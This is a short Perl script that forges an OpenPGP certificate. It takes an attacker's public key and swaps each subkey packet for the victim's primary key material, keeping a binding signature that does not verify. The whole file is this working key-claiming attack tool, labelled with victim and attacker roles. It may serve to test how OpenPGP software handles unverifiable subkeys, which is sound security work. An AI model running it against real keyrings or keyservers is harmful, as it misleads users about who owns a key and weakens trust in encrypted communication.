#!/usr/bin/perl
# claim-key.pl VICTIM.asc ATTACKER.asc > key.gpg
# The attacker's armored public key (which must have a subkey) with
# each subkey packet replaced by one that carries the victim's PRIMARY
# key material, the attacker's binding signature after it (which does
# not verify for it).  Binary OpenPGP on stdout.  Anyone can make it
# from public keys: it claims a key nobody can sign with.
use strict;
use warnings;
use FindBin;
use lib $FindBin::Bin;
use PGPPackets qw(dearmor packets);

my @v = packets(dearmor($ARGV[0]));
my @a = packets(dearmor($ARGV[1]));
die "no primary key in $ARGV[0]\n" unless $v[0][0] == 6;
my $body = $v[0][2];
die "key too long\n" if length $body >= 192;
my $sub = chr(0xc0 | 14) . chr(length $body) . $body;
binmode STDOUT;
print $_->[0] == 14 ? $sub : $_->[1] for @a;
